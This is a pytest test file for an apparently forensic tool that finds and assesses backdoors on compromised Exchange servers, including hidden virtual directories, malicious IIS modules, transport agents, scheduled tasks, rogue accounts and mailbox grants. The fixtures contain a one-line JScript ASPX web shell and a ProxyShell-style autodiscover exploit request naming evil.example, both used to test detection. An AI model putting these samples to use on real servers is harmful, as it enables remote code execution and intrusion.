"""Backdoors that are no pages: which count, from what, whether they stand, and which never do.

Made up after published facts, with addresses and names of the documentation ranges.
"""

from __future__ import annotations

import pytest
from test_verdicts import IIS, INTRUDER, USER, V15, assessed, hit, iis, lines, written

from afterpatch.model import Backdoor
from afterpatch.outputs.format import Dossier

CONFIG = "C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config"
HISTORY = "C:\\inetpub\\history\\CFGHISTORY_0000000007\\applicationHost.config"
WEB = V15 + "FrontEnd\\HttpProxy\\owa\\web.config"
AGENTS = V15 + "TransportRoles\\Shared\\agents.config"
TASKS = "C:\\Windows\\System32\\Tasks\\"
CMDLETS = V15 + "Logging\\CmdletInfra\\Powershell-Proxy\\Cmdlet\\Rps_Cmdlet_2021030306-1.LOG"
EXPORT = "C:\\x\\services.reg"
EVENTS = "C:\\x\\security.json"
SYSMON = "C:\\x\\sysmon.json"
PAGE = "C:\\inetpub\\wwwroot\\aspnet_client\\inert.aspx"
ORDINARY = {IIS: iis(hit("GET /owa/", 302, USER))}


def config(*directories: tuple[str, str, str], more: str = "") -> str:
    """The configuration with virtual directories as (site, URL, folder)."""
    sites = "".join(
        f'<site name="{site}"><application path="{url}"><virtualDirectory path="/" '
        f'physicalPath="{folder}" /></application></site>'
        for site, url, folder in directories
    )
    return (
        f"<configuration><system.applicationHost><sites>{sites}</sites></system.applicationHost>"
        f"<system.webServer>{more}</system.webServer></configuration>"
    )


STOCK = ("Default Web Site", "/owa", "%ExchangeInstallPath%\\FrontEnd\\HttpProxy\\owa")
HIDDEN = ("Default Web Site", "/zx", "C:\\ProgramData\\COM")


def agent(name: str, library: str) -> str:
    return (
        f'<configuration><mexRuntime><agentList><agent name="{name}" classFactory="Some.Factory" '
        f'assemblyPath="{library}" enabled="true" /></agentList></mexRuntime></configuration>'
    )


def task(command: str, date: str = "2021-03-05T10:00:00") -> bytes:
    return (
        '<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><RegistrationInfo>'
        f"<Date>{date}</Date></RegistrationInfo><Actions><Exec><Command>{command}</Command></Exec>"
        "</Actions></Task>"
    ).encode("utf-16")


def service(name: str, image: str) -> str:
    image = image.replace("\\", "\\\\")
    key = f"HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\{name}"
    return f'Windows Registry Editor Version 5.00\r\n\r\n[{key}]\r\n"ImagePath"="{image}"\r\n'


def cmdlets(*rows: tuple[str, str, str], who: str = "EXAMPLE\\anna") -> str:
    """The cmdlet log with rows of time, cmdlet and parameters."""
    head = (
        "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2106.002\r\n"
        "#Log-type: Rps Cmdlet Logs\r\n#Fields: DateTime,StartTime,RequestId,ServerHostName,"
        "ProcessName,AuthenticatedUser,Cmdlet,Parameters,ErrorType,ExecutionResult\r\n"
    )
    return head + "".join(
        f"2021-03-{at}.000Z,2021-03-{at}.000Z,a1,MAIL01,w3wp#MSExchangePowerShellAppPool,{who},"
        f'{name},"{parameters.replace(chr(34), chr(34) * 2)}",,Success\r\n'
        for at, name, parameters in rows
    )


def security(number: int, when: str = "2021-03-04T06:00:00.000Z", **data: str) -> dict[str, object]:
    return {
        "Channel": "Security",
        "SourceName": "Microsoft-Windows-Security-Auditing",
        "Hostname": "MAIL01.corp.example.org",
        "TimeCreated": when,
        "EventID": number,
        **data,
    }


def doors(found: Dossier) -> list[tuple[str, str | None, str, str]]:
    return [
        (d.kind, d.name or d.url, d.evidence_state, d.still_stands)
        for d in found.assessment.backdoors
    ]


def only(found: Dossier) -> Backdoor:
    (door,) = found.assessment.backdoors
    return door


# ---------------------------------------------------------------- files of the server


BELOW = ("Default Web Site", "/aspnet_client/zx", "C:\\ProgramData\\COM")


def test_a_hidden_directory_with_its_visits() -> None:
    url = "/aspnet_client/zx"
    visits = (f"GET {url}/a.aspx", 200), (f"POST {url}/a.aspx", 200), (f"GET {url}/b.aspx", 404)
    found = assessed({IIS: iis(*(hit(*v) for v in visits)), CONFIG: config(STOCK, BELOW)})
    door = next(d for d in found.assessment.backdoors if d.kind == "virtual directory")
    assert (door.name, door.url, door.path) == (url, url, "C:\\ProgramData\\COM")
    assert (door.evidence_state, door.on_disk, door.still_stands) == ("file", True, "yes")
    assert (door.visits.count, door.visits.answered) == (3, 2)
    assert found.assessment.verdict.grade in ("backdoored", "used")
    assert any(f"virtual directory {url}" in step for step in found.assessment.next_steps)


def test_a_page_in_a_hidden_directory_is_the_one_that_is_asked_for() -> None:
    shell = '<%@ Page Language="Jscript"%><% ' + "ev" + "al(Req" + 'uest.Item["x"],"none");%>'
    files = {CONFIG: config(BELOW), "C:\\ProgramData\\COM\\a.aspx": shell}
    found = assessed({IIS: iis(hit("POST /aspnet_client/zx/a.aspx", 200)), **files})
    page = next(d for d in found.assessment.backdoors if d.kind == "web shell")
    assert (page.url, page.path) == ("/aspnet_client/zx/a.aspx", "C:\\ProgramData\\COM\\a.aspx")
    assert page.visits.count == 1


@pytest.mark.parametrize(
    ("current", "stands"), [({}, "unknown"), ({CONFIG: config(STOCK)}, "no")], ids=str
)
def test_a_directory_that_only_a_dated_copy_has_is_gone(
    current: dict[str, str], stands: str
) -> None:
    found = assessed({**ORDINARY, HISTORY: config(STOCK, HIDDEN), **current})
    assert doors(found) == [("virtual directory", "/zx", "file", stands)]


MODULE = '<globalModules><add name="{}" image="{}" /></globalModules>'


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        (
            {CONFIG: config(more=MODULE.format("Http", "C:\\PerfLogs\\http.dll"))},
            ("IIS module", "Http", "file", "yes"),
        ),
        (
            {AGENTS: agent("Some Agent", "C:\\ProgramData\\some.dll")},
            ("transport agent", "Some Agent", "file", "yes"),
        ),
        (
            {TASKS + "Updater": task("C:\\Users\\Public\\x.exe")},
            ("scheduled task", "\\Updater", "file", "yes"),
        ),
        (
            {EXPORT: service("opera", "C:\\Users\\Public\\opera\\o.exe")},
            ("service", "opera", "file", "yes"),
        ),
        (
            {
                CMDLETS: cmdlets(
                    (
                        "03T06:00:00",
                        "Install-TransportAgent",
                        '-Name "Some Agent" -AssemblyPath "C:\\Windows\\Temp\\some.dll"',
                    )
                )
            },
            ("transport agent", "Some Agent", "log only", "unknown"),
        ),
    ],
    ids=lambda v: v[0] if isinstance(v, tuple) else "",
)
def test_what_proves_itself(files: dict[str, str | bytes], expected: tuple[str, ...]) -> None:
    found = assessed({**ORDINARY, **files})
    assert doors(found) == [expected]
    assert found.assessment.verdict.grade == "backdoored"


def test_what_administrators_and_products_bring_along_is_none() -> None:
    found = assessed(
        {
            **ORDINARY,
            CONFIG: config(
                STOCK,
                ("EAC Secondary", "/", "C:\\inetpub\\EAC_Secondary"),
                ("Default Web Site", "/portal", "D:\\apps\\portal"),
                ("Console", "/", "C:\\ProgramData\\Vendor\\www"),
                ("Intranet", "/", "\\\\FS01\\web"),
                more=MODULE.format("SomeAgent", "C:\\Program Files\\Vendor\\iis.dll"),
            ),
            WEB: config(
                more='<modules><add name="SignIn" type="Vendor.SignIn, Vendor" /></modules>'
            ),
            AGENTS: agent("Signature Agent", "C:\\Program Files\\Vendor\\agent.dll"),
            TASKS + "Log cleanup": task("C:\\Scripts\\cleanup.cmd"),
            TASKS + "Setup": task("C:\\Windows\\Temp\\setup.exe"),
            EXPORT: service("agent", "C:\\ProgramData\\Vendor\\agent.exe"),
            CMDLETS: cmdlets(
                ("03T06:00:00", "Add-MailboxPermission", '-Identity "a" -User "b"'),
                (
                    "03T06:01:00",
                    "Set-Mailbox",
                    '-Identity "a" -ForwardingSmtpAddress "c@example.net"',
                ),
                ("03T06:02:00", "New-TransportRule", '-Name "j" -BlindCopyTo "c@example.net"'),
                ("03T06:03:00", "New-Mailbox", '-Name "New one"'),
                ("03T06:04:00", "Search-Mailbox", '-Identity "a" -SearchQuery "x"'),
                (
                    "03T06:05:00",
                    "New-ManagementRoleAssignment",
                    '-Role "Mailbox Import Export" -User "b"',
                ),
                ("03T06:06:00", "Remove-MailboxExportRequest", '-Identity "a"'),
            ),
        }
    )
    assert doors(found) == []
    assert found.assessment.verdict.grade in ("no evidence", "exposed")
    assert found.assessment.impact == ()


# ---------------------------------------------------------------- in the time of the intruder

SHELL = iis(
    hit(
        "POST /autodiscover/autodiscover.json?@evil.example/powershell/?X-Rps-CAT=VgEA"
        "&Email=autodiscover/autodiscover.json%3F@evil.example",
        200,
        at="06:21:10",
        agent="python-requests/2.26.0",
    )
)
ROLE = ("03T06:22:00", "New-ManagementRoleAssignment", '-Role "Mailbox Import Export" -User "anna"')
GRANT = ("03T06:24:00", "Add-MailboxPermission", '-Identity "boss" -User "anna"')


def test_what_was_set_up_right_after_the_entry_counts() -> None:
    found = assessed({IIS: SHELL, CMDLETS: cmdlets(ROLE, GRANT)})
    assert doors(found) == [
        ("delegation", "anna", "log only", "unknown"),
        ("role assignment", "anna", "log only", "unknown"),
    ]
    assert [d.id for d in found.assessment.backdoors] == ["bd-1", "bd-2"]


def test_what_the_same_account_does_at_other_times_as_well_does_not() -> None:
    habit = ("02T09:00:00", "Add-MailboxPermission", '-Identity "team" -User "bob"')
    found = assessed({IIS: SHELL, CMDLETS: cmdlets(habit, ROLE, GRANT)})
    assert doors(found) == []


@pytest.mark.parametrize("at", ["03T06:00:00", "03T06:50:00"])
def test_what_was_set_up_before_or_long_after_does_not(at: str) -> None:
    late = cmdlets((at, *GRANT[1:]), who="EXAMPLE\\helpdesk")
    found = assessed({IIS: SHELL, CMDLETS: cmdlets(ROLE), CMDLETS + "x": late})
    assert ("delegation", "anna", "log only", "unknown") not in doors(found)


def test_without_an_entry_that_is_proved_nothing_is_held_against_anybody() -> None:
    assert doors(assessed({CMDLETS: cmdlets(ROLE, GRANT)})) == []


def test_what_was_taken_away_again_does_not_stand() -> None:
    gone = ("03T07:00:00", "Remove-MailboxPermission", '-Identity "boss" -User "anna"')
    found = assessed(
        {IIS: SHELL, CMDLETS: cmdlets(ROLE, GRANT), CMDLETS + "x": cmdlets(gone, who="E\\b")}
    )
    assert ("delegation", "anna", "log only", "no") in doors(found)


# ---------------------------------------------------------------- several traces of one thing


def test_a_file_and_events_of_one_task_are_one_backdoor() -> None:
    content = task("C:\\Users\\Public\\x.exe").decode("utf-16")
    made = security(4698, TaskName="\\Updater", TaskContent=content, SubjectUserName="anna")
    found = assessed(
        {**ORDINARY, EVENTS: lines(made), TASKS + "Updater": task("C:\\Users\\Public\\x.exe")}
    )
    door = only(found)
    assert (door.kind, door.path, door.still_stands) == (
        "scheduled task",
        TASKS + "Updater",
        "yes",
    )
    assert door.planted == "2021-03-04T06:00:00.000Z"
    assert len(door.findings) == 2


def test_an_agent_and_its_library_are_one_backdoor() -> None:
    library = "C:\\ProgramData\\some.dll"
    install = f'-Name "Some Agent" -AssemblyPath "{library}"'
    found = assessed(
        {
            **ORDINARY,
            AGENTS: agent("Some Agent", library),
            CMDLETS: cmdlets(("03T06:00:00", "Install-TransportAgent", install)),
        }
    )
    door = only(found)
    assert (door.name, door.path, door.evidence_state) == ("Some Agent", library, "file")
    assert door.planted == "2021-03-03T06:00:00.000Z"
    assert len(door.findings) == 2


def test_an_account_and_its_identifier_are_one_backdoor() -> None:
    sid = "S-1-5-21-1-2-3-1009"
    by = {"SubjectUserName": "MAIL01$", "SubjectDomainName": "EXAMPLE"}
    made = security(4720, TargetUserName="svc_x", TargetSid=sid, SamAccountName="svc_x", **by)
    put = {"TargetUserName": "Administrators", "TargetSid": "S-1-5-32-544", **by}
    joined = security(4732, MemberName="-", MemberSid=sid, **put)
    shell = {**written(PAGE), "TimeCreated": "2021-03-04T05:55:00.000Z"}
    found = assessed({**ORDINARY, EVENTS: lines(made, joined), SYSMON: lines(shell)})
    accounts = {d.name for d in found.assessment.backdoors if d.kind == "account"}
    assert accounts <= {"svc_x"}


def test_a_task_that_was_deleted_does_not_stand() -> None:
    content = task("C:\\Users\\Public\\x.exe").decode("utf-16")
    made = security(4698, TaskName="\\Updater", TaskContent=content, SubjectUserName="anna")
    ended = security(4699, "2021-03-04T07:00:00.000Z", TaskName="\\Updater", SubjectUserName="anna")
    found = assessed({**ORDINARY, EVENTS: lines(made, ended)})
    assert doors(found) == [("scheduled task", "\\Updater", "trace only", "no")]


@pytest.mark.parametrize(("after", "stands"), [("07", "no"), ("05", "unknown")])
def test_a_page_that_was_seen_to_be_deleted_is_gone(after: str, stands: str) -> None:
    ended = {**written(PAGE), "EventID": 23, "TimeCreated": f"2021-03-03T{after}:00:00.000Z"}
    found = assessed({**ORDINARY, SYSMON: lines(written(PAGE), ended)})
    assert [(d.kind, d.still_stands) for d in found.assessment.backdoors] == [("web shell", stands)]


def test_pages_come_first_and_nobody_is_named_for_a_file() -> None:
    found = assessed(
        {
            IIS: iis(hit("POST /aspnet_client/inert.aspx", 200, at="09:00:00")),
            SYSMON: lines(written(PAGE)),
            CONFIG: config(HIDDEN),
            AGENTS: agent("Some Agent", "C:\\ProgramData\\some.dll"),
        }
    )
    kinds = [d.kind for d in found.assessment.backdoors]
    assert kinds == ["web shell", "transport agent", "virtual directory"]
    assert {a for o in found.assessment.operators for a in o.addresses} == {INTRUDER}
